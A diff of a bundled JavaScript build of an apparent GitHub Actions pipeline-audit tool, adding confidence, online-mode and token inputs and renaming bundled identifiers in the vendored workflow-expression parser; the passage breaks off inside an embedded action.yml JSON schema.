@@ -29510,7 +29510,7 @@ module.exports = {
 /* harmony export */   T: () => (/* binding */ parseInputs)
 /* harmony export */ });
 /* unused harmony export inputSchema */
-/* harmony import */ var _slipway_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(368);
+/* harmony import */ var _slipway_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6181);
 
 const inputSchema = {
     mode: _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.oneOf */ .hF.oneOf(['audit', 'record'], { default: 'audit' }),
@@ -29519,6 +29519,10 @@ const inputSchema = {
     'fail-on-findings': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.boolean */ .hF.boolean({ default: 'true' }),
     'sarif-file': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.path */ .hF.path({ default: 'pipeline-audit.sarif' }),
     'json-file': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.path */ .hF.path(),
+    'min-confidence': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.oneOf */ .hF.oneOf(['high', 'medium', 'low'], { default: 'high' }),
+    online: _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.boolean */ .hF.boolean({ default: 'false' }),
+    'github-token': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.string */ .hF.string({ default: '${{ github.token }}' }),
+    'api-url': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.string */ .hF.string({ default: '${{ github.api_url }}' }),
     needs: _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.string */ .hF.string(),
     'job-permissions': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.string */ .hF.string(),
     'record-file': _slipway_core__WEBPACK_IMPORTED_MODULE_0__/* .input.path */ .hF.path({ default: 'slipway-audit-record.json' }),
@@ -29548,7 +29552,7 @@ function parseInputs(read) {
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
 /* harmony import */ var _slipway_core_actions__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3077);
 /* harmony import */ var _inputs_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(9417);
-/* harmony import */ var _run_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(8196);
+/* harmony import */ var _run_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(9221);
 
 
 
@@ -29559,7 +29563,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 8196:
+/***/ 9221:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -29570,8 +29574,8 @@ __nccwpck_require__.d(__webpack_exports__, {
 
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(6760);
-// EXTERNAL MODULE: ./packages/core/src/index.ts + 11 modules
-var src = __nccwpck_require__(368);
+// EXTERNAL MODULE: ./packages/core/src/index.ts + 15 modules
+var src = __nccwpck_require__(6181);
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/features.js
 /**
  * All known experimental feature keys.
@@ -29919,7 +29923,7 @@ class TemplateValidationError {
 /**
  * Context object that is flowed through while loading and evaluating object templates
  */
-class TemplateContext {
+class template_context_TemplateContext {
     constructor(errors, schema, trace) {
         this._fileIds = {};
         this._fileNames = [];
@@ -29991,7 +29995,7 @@ class TemplateContext {
 /**
  * Provides information about errors which occurred during validation
  */
-class TemplateValidationErrors {
+class template_context_TemplateValidationErrors {
     constructor(maxErrors, maxMessageLength) {
         this._errors = [];
         this._maxErrors = maxErrors ?? 0;
@@ -30471,7 +30475,7 @@ class IndexAccess extends Expr {
         return v.visitIndexAccess(this);
     }
 }
-class ast_Star extends Expr {
+class Star extends Expr {
     accept() {
         throw new Error("Method not implemented.");
     }
@@ -30747,7 +30751,7 @@ function reviver(_key, val) {
 //# sourceMappingURL=index.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/filtered_array.js
 
-class filtered_array_FilteredArray extends array_Array {
+class FilteredArray extends array_Array {
 }
 //# sourceMappingURL=filtered_array.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/lexer.js
@@ -31156,23 +31160,23 @@ const caseFunc = {
 //# sourceMappingURL=case.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/result.js
 
-function result_falsy(d) {
+function falsy(d) {
     switch (d.kind) {
-        case data.Kind.Null:
+        case expressiondata_Kind.Null:
             return true;
-        case data.Kind.Boolean:
+        case expressiondata_Kind.Boolean:
             return !d.value;
-        case data.Kind.Number: {
+        case expressiondata_Kind.Number: {
             const dv = d.value;
             return dv === 0 || isNaN(dv);
         }
-        case data.Kind.String:
+        case expressiondata_Kind.String:
             return d.value.length === 0;
     }
     return false;
 }
-function result_truthy(d) {
-    return !result_falsy(d);
+function truthy(d) {
+    return !falsy(d);
 }
 // Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
 // Except objects are not coerced to primitives.
@@ -31215,7 +31219,7 @@ function coerceTypes(li, ri) {
 }
 // Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
 // Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
-function result_equals(lhs, rhs) {
+function equals(lhs, rhs) {
     const [lv, rv] = coerceTypes(lhs, rhs);
     if (lv.kind != rv.kind) {
         return false;
@@ -31255,14 +31259,14 @@ function result_equals(lhs, rhs) {
 }
 // Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
 // Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
-function result_greaterThan(lhs, rhs) {
+function greaterThan(lhs, rhs) {
     const [lv, rv] = coerceTypes(lhs, rhs);
     if (lv.kind != rv.kind) {
         return false;
     }
     switch (lv.kind) {
         // Number, Number
-        case data.Kind.Number: {
+        case expressiondata_Kind.Number: {
             const lf = lv.value;
             const rf = rv.value;
             if (isNaN(lf) || isNaN(rf)) {
@@ -31271,7 +31275,7 @@ function result_greaterThan(lhs, rhs) {
             return lf > rf;
         }
         // String, String
-        case data.Kind.String: {
+        case expressiondata_Kind.String: {
             let ls = lv.value;
             let rs = rv.value;
             ls = toUpperSpecial(ls);
@@ -31279,7 +31283,7 @@ function result_greaterThan(lhs, rhs) {
             return ls > rs;
         }
         // Boolean, Boolean
-        case data.Kind.Boolean: {
+        case expressiondata_Kind.Boolean: {
             const lb = lv.value;
             const rb = rv.value;
             return lb && !rb;
@@ -31289,14 +31293,14 @@ function result_greaterThan(lhs, rhs) {
 }
 // Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
 // Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
-function result_lessThan(lhs, rhs) {
+function lessThan(lhs, rhs) {
     const [lv, rv] = coerceTypes(lhs, rhs);
     if (lv.kind != rv.kind) {
         return false;
     }
     switch (lv.kind) {
         // Number, Number
-        case data.Kind.Number: {
+        case expressiondata_Kind.Number: {
             const lf = lv.value;
             const rf = rv.value;
             if (isNaN(lf) || isNaN(rf)) {
@@ -31305,7 +31309,7 @@ function result_lessThan(lhs, rhs) {
             return lf < rf;
         }
         // String, String
-        case data.Kind.String: {
+        case expressiondata_Kind.String: {
             let ls = lv.value;
             let rs = rv.value;
             ls = toUpperSpecial(ls);
@@ -31313,7 +31317,7 @@ function result_lessThan(lhs, rhs) {
             return ls < rs;
         }
         // Boolean, Boolean
-        case data.Kind.Boolean: {
+        case expressiondata_Kind.Boolean: {
             const lb = lv.value;
             const rb = rv.value;
             return !lb && rb;
@@ -31369,7 +31373,7 @@ const contains = {
                 return new BooleanData(false);
             }
             for (const v of la.values()) {
-                if (result_equals(right, v)) {
+                if (equals(right, v)) {
                     return new BooleanData(true);
                 }
             }
@@ -31635,6 +31639,26 @@ function validateFunction(context, identifier, argCount) {
     }
 }
 //# sourceMappingURL=funcs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/idxHelper.js
+class idxHelper {
+    constructor(star, idx) {
+        this.star = star;
+        if (!idx) {
+            return;
+        }
+        if (!star) {
+            if (idx.primitive) {
+                this.str = idx.coerceString();
+            }
+            let f = idx.number();
+            if (!isNaN(f) && isFinite(f) && f >= 0) {
+                f = Math.floor(f);
+                this.int = f;
+            }
+        }
+    }
+}
+//# sourceMappingURL=idxHelper.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/evaluator.js
 
 
@@ -31666,8 +31690,8 @@ class evaluator_Evaluator {
     }
     visitUnary(unary) {
         const r = this.eval(unary.expr);
-        if (unary.operator.type === TokenType.BANG) {
-            return new data.BooleanData(falsy(r));
+        if (unary.operator.type === lexer_TokenType.BANG) {
+            return new BooleanData(falsy(r));
         }
         throw new Error(`unknown unary operator: ${unary.operator.lexeme}`);
     }
@@ -31675,18 +31699,18 @@ class evaluator_Evaluator {
         const left = this.eval(binary.left);
         const right = this.eval(binary.right);
         switch (binary.operator.type) {
-            case TokenType.EQUAL_EQUAL:
-                return new data.BooleanData(equals(left, right));
-            case TokenType.BANG_EQUAL:
-                return new data.BooleanData(!equals(left, right));
-            case TokenType.GREATER:
-                return new data.BooleanData(greaterThan(left, right));
-            case TokenType.GREATER_EQUAL:
-                return new data.BooleanData(equals(left, right) || greaterThan(left, right));
-            case TokenType.LESS:
-                return new data.BooleanData(lessThan(left, right));
-            case TokenType.LESS_EQUAL:
-                return new data.BooleanData(equals(left, right) || lessThan(left, right));
+            case lexer_TokenType.EQUAL_EQUAL:
+                return new BooleanData(equals(left, right));
+            case lexer_TokenType.BANG_EQUAL:
+                return new BooleanData(!equals(left, right));
+            case lexer_TokenType.GREATER:
+                return new BooleanData(greaterThan(left, right));
+            case lexer_TokenType.GREATER_EQUAL:
+                return new BooleanData(equals(left, right) || greaterThan(left, right));
+            case lexer_TokenType.LESS:
+                return new BooleanData(lessThan(left, right));
+            case lexer_TokenType.LESS_EQUAL:
+                return new BooleanData(equals(left, right) || lessThan(left, right));
         }
         throw new Error(`unknown binary operator: ${binary.operator.lexeme}`);
     }
@@ -31695,8 +31719,8 @@ class evaluator_Evaluator {
         for (const arg of logical.args) {
             result = this.eval(arg);
             // Break?
-            if ((logical.operator.type === TokenType.AND && falsy(result)) ||
-                (logical.operator.type === TokenType.OR && truthy(result))) {
+            if ((logical.operator.type === lexer_TokenType.AND && falsy(result)) ||
+                (logical.operator.type === lexer_TokenType.OR && truthy(result))) {
                 break;
             }
         }
@@ -31730,7 +31754,7 @@ class evaluator_Evaluator {
         const objResult = this.eval(ia.expr);
         let result;
         switch (objResult.kind) {
-            case data.Kind.Array: {
+            case expressiondata_Kind.Array: {
                 const tobjResult = objResult;
                 if (tobjResult instanceof FilteredArray) {
                     result = filteredArrayAccess(tobjResult, idx);
@@ -31740,7 +31764,7 @@ class evaluator_Evaluator {
                 }
                 break;
             }
-            case data.Kind.Dictionary: {
+            case expressiondata_Kind.Dictionary: {
                 const tobjResult = objResult;
                 result = objectAccess(tobjResult, idx);
                 break;
@@ -31750,7 +31774,7 @@ class evaluator_Evaluator {
                     result = new FilteredArray();
                 }
                 else {
-                    result = new data.Null();
+                    result = new Null();
                 }
         }
         return result;
@@ -31760,7 +31784,7 @@ class evaluator_Evaluator {
         const args = functionCall.args.map(arg => this.eval(arg));
         // Get function definitions
         const functionName = functionCall.functionName.lexeme.toLowerCase();
-        const f = this.functions?.get(functionName) || wellKnownFunctions[functionName];
+        const f = this.functions?.get(functionName) || funcs_wellKnownFunctions[functionName];
         return f.call(...args);
     }
 }
@@ -31769,7 +31793,7 @@ function filteredArrayAccess(fa, idx) {
     for (const item of fa.values()) {
         // Check the type of the nested item
         switch (item.kind) {
-            case data.Kind.Dictionary: {
+            case expressiondata_Kind.Dictionary: {
                 const ti = item;
                 if (idx.star) {
                     for (const v of ti.values()) {
@@ -31784,7 +31808,7 @@ function filteredArrayAccess(fa, idx) {
                 }
                 break;
             }
-            case data.Kind.Array: {
+            case expressiondata_Kind.Array: {
                 const ti = item;
                 if (idx.star) {
                     for (const v of ti.values()) {
@@ -31811,7 +31835,7 @@ function arrayAccess(a, idx) {
     if (idx.int !== undefined && idx.int < a.values().length) {
         return a.get(idx.int);
     }
-    return new data.Null();
+    return new Null();
 }
 function objectAccess(obj, idx) {
     if (idx.star) {
@@ -31824,7 +31848,7 @@ function objectAccess(obj, idx) {
             return r;
         }
     }
-    return new data.Null();
+    return new Null();
 }
 //# sourceMappingURL=evaluator.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/parser.js
@@ -31969,7 +31993,7 @@ class parser_Parser {
                     case this.match(lexer_TokenType.LEFT_BRACKET): {
                         let indexExpr;
                         if (this.match(lexer_TokenType.STAR)) {
-                            indexExpr = new ast_Star();
+                            indexExpr = new Star();
                         }
                         else {
                             indexExpr = this.expression();
@@ -31990,7 +32014,7 @@ class parser_Parser {
                             expr = new IndexAccess(expr, new Literal(new StringData(property.lexeme), property));
                         }
                         else if (this.match(lexer_TokenType.STAR)) {
-                            expr = new IndexAccess(expr, new ast_Star());
+                            expr = new IndexAccess(expr, new Star());
                         }
                         else {
                             throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
@@ -32442,7 +32466,7 @@ class InsertExpressionToken extends expression_token_ExpressionToken {
 function isLiteral(t) {
     return t.isLiteral;
 }
-function isScalar(t) {
+function type_guards_isScalar(t) {
     return t.isScalar;
 }
 function isString(t) {
@@ -32455,7 +32479,7 @@ function isBoolean(t) {
     return isLiteral(t) && t.templateTokenType === TokenType.Boolean;
 }
 function isBasicExpression(t) {
-    return isScalar(t) && t.templateTokenType === TokenType.BasicExpression;
+    return type_guards_isScalar(t) && t.templateTokenType === TokenType.BasicExpression;
 }
 function isSequence(t) {
     return t instanceof SequenceToken;
@@ -33231,7 +33255,7 @@ class JSONObjectReader {
 }
 //# sourceMappingURL=json-object-reader.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/trace-writer.js
-class NoOperationTraceWriter {
+class trace_writer_NoOperationTraceWriter {
     error() {
         // do nothing
     }
@@ -34079,7 +34103,7 @@ class TemplateSchema {
      * Loads a user-defined schema file
      */
     static load(objectReader) {
-        const context = new TemplateContext(new TemplateValidationErrors(10, 500), TemplateSchema.getInternalSchema(), new NoOperationTraceWriter());
+        const context = new template_context_TemplateContext(new template_context_TemplateValidationErrors(10, 500), TemplateSchema.getInternalSchema(), new trace_writer_NoOperationTraceWriter());
         const template = readTemplate(context, TEMPLATE_SCHEMA, objectReader, undefined);
         context.errors.check();
         // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
@@ -34239,7 +34263,7 @@ var dist = __nccwpck_require__(8815);
 
 
 
-class YamlObjectReader {
+class yaml_object_reader_YamlObjectReader {
     constructor(fileId, content) {
         this.lineCounter = new dist/* LineCounter */.HN();
         this.errors = [];
@@ -34283,7 +34307,7 @@ class YamlObjectReader {
             }
         }
         if ((0,dist/* isScalar */.jn)(node)) {
-            yield new ParseEvent(EventType.Literal, YamlObjectReader.getLiteralToken(this.fileId, range, node));
+            yield new ParseEvent(EventType.Literal, yaml_object_reader_YamlObjectReader.getLiteralToken(this.fileId, range, node));
         }
         // Handle YAML aliases - resolve to the anchored value
         if ((0,dist/* isAlias */.Vj)(node)) {
@@ -34453,12 +34477,12 @@ function rangeFromLinePos(linePos) {
 
 
 
-function parseWorkflow(entryFile, contextOrTrace) {
-    const context = contextOrTrace instanceof TemplateContext
+function workflow_parser_parseWorkflow(entryFile, contextOrTrace) {
+    const context = contextOrTrace instanceof template_context_TemplateContext
         ? contextOrTrace
-        : new TemplateContext(new TemplateValidationErrors(), getWorkflowSchema(), contextOrTrace);
+        : new template_context_TemplateContext(new template_context_TemplateValidationErrors(), getWorkflowSchema(), contextOrTrace);
     const fileId = context.getFileId(entryFile.name);
-    const reader = new YamlObjectReader(fileId, entryFile.content);
+    const reader = new yaml_object_reader_YamlObjectReader(fileId, entryFile.content);
     if (reader.errors.length > 0) {
         // The file is not valid YAML, template errors could be misleading
         for (const err of reader.errors) {
@@ -35504,7 +35528,7 @@ function convertToActionsEnvironmentRef(context, token) {
     if (token.isExpression) {
         return result;
     }
-    if (isScalar(token)) {
+    if (type_guards_isScalar(token)) {
         result.name = token;
         return result;
     }
@@ -36280,22 +36304,22 @@ function convertReferencedWorkflowOn(context, on, job) {
 
 
 
-var ErrorPolicy;
+var convert_ErrorPolicy;
 (function (ErrorPolicy) {
     ErrorPolicy[ErrorPolicy["ReturnErrorsOnly"] = 0] = "ReturnErrorsOnly";
     ErrorPolicy[ErrorPolicy["TryConversion"] = 1] = "TryConversion";
-})(ErrorPolicy || (ErrorPolicy = {}));
+})(convert_ErrorPolicy || (convert_ErrorPolicy = {}));
 const defaultOptions = {
     maxReusableWorkflowDepth: 4,
     fetchReusableWorkflowDepth: 0,
-    errorPolicy: ErrorPolicy.ReturnErrorsOnly,
+    errorPolicy: convert_ErrorPolicy.ReturnErrorsOnly,
     featureFlags: new features_FeatureFlags()
 };
-async function convertWorkflowTemplate(context, root, fileProvider, options = defaultOptions) {
+async function convert_convertWorkflowTemplate(context, root, fileProvider, options = defaultOptions) {
     const result = {};
     const opts = getOptionsWithDefaults(options);
     context.state.featureFlags = opts.featureFlags;
-    if (context.errors.getErrors().length > 0 && opts.errorPolicy === ErrorPolicy.ReturnErrorsOnly) {
+    if (context.errors.getErrors().length > 0 && opts.errorPolicy === convert_ErrorPolicy.ReturnErrorsOnly) {
         result.errors = context.errors.getErrors().map(x => ({
             Message: x.message
         }));
@@ -36336,7 +36360,7 @@ async function convertWorkflowTemplate(context, root, fileProvider, options = de
                 }
                 try {
                     const file = await fileProvider.getFileContent(parseFileReference(job.ref.value));
-                    const workflow = parseWorkflow(file, context);
+                    const workflow = workflow_parser_parseWorkflow(file, context);
                     if (!workflow.value) {
                         continue;
                     }
@@ -36385,9 +36409,6 @@ function getOptionsWithDefaults(options) {
 
 
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-constants.js
-const ACTION_ROOT = "action-root-strict";
-//# sourceMappingURL=action-constants.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/action-v1.0.min.json
 const action_v1_0_min_namespaceObject = /*#__PURE__*/JSON.parse('{"definitions":{"action-root":{"description":"Action file","mapping":{"properties":{"name":"string","description":"string","inputs":"inputs","outputs":"outputs","runs":"runs"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"action-root-strict":{"description":"GitHub Action manifest file (action.yml/action.yaml) that defines an action\'s metadata, inputs, outputs, and execution configuration.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions)","mapping":{"properties":{"name":{"type":"non-empty-string","required":true,"description":"The name of your action. GitHub displays the name in the Actions tab to help visually identify actions in each job.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#name)"},"description":{"type":"string","required":true,"description":"A short description of the action. GitHub displays this description in the Actions Marketplace.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#description)"},"author":{"type":"string","description":"The name of the action\'s author.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#author)"},"inputs":"inputs-strict","outputs":"outputs","runs":{"type":"runs-strict","required":true},"branding":"branding"}}},"inputs":{"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"input"}},"inputs-strict":{"description":"Input parameters allow you to specify data that the action expects to use during runtime. GitHub stores input parameters as environment variables. Inputs ids with uppercase letters are converted to lowercase during runtime.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputs)","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"input-strict"}},"input":{"mapping":{"properties":{"default":"input-default-context"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-strict":{"description":"An input parameter for this action.","mapping":{"properties":{"description":{"type":"string","description":"A string description of the input parameter.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddescription)"},"required":{"type":"boolean","description":"A boolean to indicate whether the action requires the input parameter. Set to true when the parameter is required.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_idrequired)"},"default":{"type":"input-default-context","description":"A string representing the default value. The default value is used when an input parameter isn\'t specified in a workflow file.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)"},"deprecationMessage":{"type":"string","description":"A string shown to users using the deprecated input, warning them that the input is deprecated and mentioning any alternatives.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddeprecationmessage)"}},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-default-context":{"description":"A string representing the default value. The default value is used when an input parameter isn\'t specified in a workflow file.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)","context":["github","strategy","matrix","job","runner","hashFiles(1,255)"],"string":{}},"outputs":{"description":"Output parameters allow you to declare data that an action sets. Actions that run later in a workflow can use the output data set in previously run actions.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputs-for-composite-actions)","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"output-definition"}},"output-definition":{"description":"An output parameter for this action.","mapping":{"properties":{"description":{"type":"string","description":"A string description of the output parameter.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_iddescription)"},"value":{"type":"output-value","description":"The value that the output parameter will be mapped to. You can set this to a string or an expression with context.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)"}}}},"output-value":{"description":"The value that the output parameter will be mapped to. You can set this to a string or an expression with context.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)","context":["github","strategy","matrix","steps","inputs","job","runner","env"],"string":{}},"runs-if":{"description":"Condition to control when this action\'s pre or post script runs.","context":["runner","github","job","strategy","matrix","env","inputs","always(0,0)","success(0,0)","failure(0,0)","cancelled(0,0)","hashFiles(1,255)"],"string":{}},"runs":{"one-of":["container-runs","node-runs","composite-runs","plugin-runs"]},"runs-strict":{"description":"Specifies whether this is a JavaScript action, a composite action, or a Docker container action and how the action is executed.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)","one-of":["container-runs-strict","node-runs-strict","composite-runs-strict"]},"plugin-runs":{"mapping":{"properties":{"plugin":"non-empty-string"}}},"container-runs":{"mapping":{"properties":{"using":"non-empty-string","image":"non-empty-string","entrypoint":"non-empty-string","args":"container-runs-args","env":"container-runs-env","pre-entrypoint":"non-empty-string","pre-if":"non-empty-string","post-entrypoint":"non-empty-string","post-if":"non-empty-string"}}},"container-runs-args":{"description":"An array of strings that define the inputs for a Docker container. Inputs can include hardcoded strings. GitHub passes the args to the container\'s ENTRYPOINT when the container starts up.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsargs)","sequence":{"item-type":"container-runs-context"}},"container-runs-env":{"description":"Specifies a key/value map of environment variables to set in the container environment.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsenv)","context":["inputs"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"container-runs-context":{"context":["inputs"],"string":{}},"node-runs":{"mapping":{"properties":{"using":"non-empty-string","main":"non-empty-string","pre":"non-empty-string","pre-if":"non-empty-string","post":"non-empty-string","post-if":"non-empty-string"}}},"composite-runs":{"mapping":{"properties":{"using":"non-empty-string","steps":"composite-steps"}}},"container-runs-strict":{"description":"Configuration for Docker container actions.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)","mapping":{"properties":{"using":{"type":"using","required":true,"description":"The runtime used to execute the action. Must be docker for Docker container actions.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)"},"image":{"type":"non-empty-string","required":true,"description":"The Docker image to use as the container to run the action. The value can be the Docker base image name, a local Dockerfile in your repository, or a public image in Docker Hub or another registry.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsimage)"},"entrypoint":{"type":"non-empty-string","description":"Overrides the Docker ENTRYPOINT in the Dockerfile, or sets it if one wasn\'t already specified.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsentrypoint)"},"args":"container-runs-args","env":"container-runs-env","pre-entrypoint":{"type":"non-empty-string","description":"Allows you to run a script before the entrypoint action begins.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-entrypoint)"},"pre-if":{"type":"runs-if","description":"Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)"},"post-entrypoint":{"type":"non-empty-string","description":"Allows you to run a cleanup script once the runs.entrypoint action has completed.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-entrypoint)"},"post-if":{"type":"runs-if","description":"Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)"}}}},"node-runs-strict":{"description":"Configuration for JavaScript actions executed with Node.js.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)","mapping":{"properties":{"using":{"type":"using","required":true,"description":"The runtime used to execute the action. Use node20 or node24 for JavaScript actions.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)"},"main":{"type":"non-empty-string","required":true,"description":"The file that contains your action code. The runtime specified in using executes this file.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsmain)"},"pre":{"type":"non-empty-string","description":"Allows you to run a script at the start of a job, before the main: action begins. You can use pre: to run prerequisite setup scripts.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre)"},"pre-if":{"type":"runs-if","description":"Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)"},"post":{"type":"non-empty-string","description":"Allows you to run a script at the end of a job, once the main: action has completed. You can use post: to run cleanup scripts.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost)"},"post-if":{"type":"runs-if","description":"Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)"}}}},"composite-runs-strict":{"description":"Configuration for composite actions that run multiple steps.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)","mapping":{"properties":{"using":{"type":"using","required":true,"description":"The runtime used to execute the action. Must be composite for composite actions.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)"},"steps":{"type":"composite-steps","required":true}}}},"composite-steps":{"description":"The steps that you plan to run in this action. These can be either run steps or uses steps.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runssteps)","sequence":{"item-type":"composite-step"}},"composite-step":{"description":"A step within a composite action.","one-of":["run-step","uses-step"]},"run-step":{"description":"Runs a command-line program using the operating system\'s shell.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)","mapping":{"properties":{"name":{"type":"string-steps-context","description":"A name for your step to display on GitHub.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)"},"id":{"type":"non-empty-string","description":"A unique identifier for the step. You can use the id to reference the step in contexts.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)"},"if":{"type":"step-if","description":"You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)"},"run":{"type":"string-steps-context","required":true,"description":"The command you want to run. This can be inline or a script in your action repository.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)"},"shell":{"type":"string-steps-context","required":true,"description":"The shell where you want to run the command. Any shell supported by the runner can be used. Required if run is set.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsshell)"},"env":"step-env","continue-on-error":{"type":"boolean-steps-context","description":"Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)"},"working-directory":{"type":"string-steps-context","description":"Specifies the working directory where the command is run.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsworking-directory)"}}}},"uses-step":{"description":"Runs another action as part of a step in your 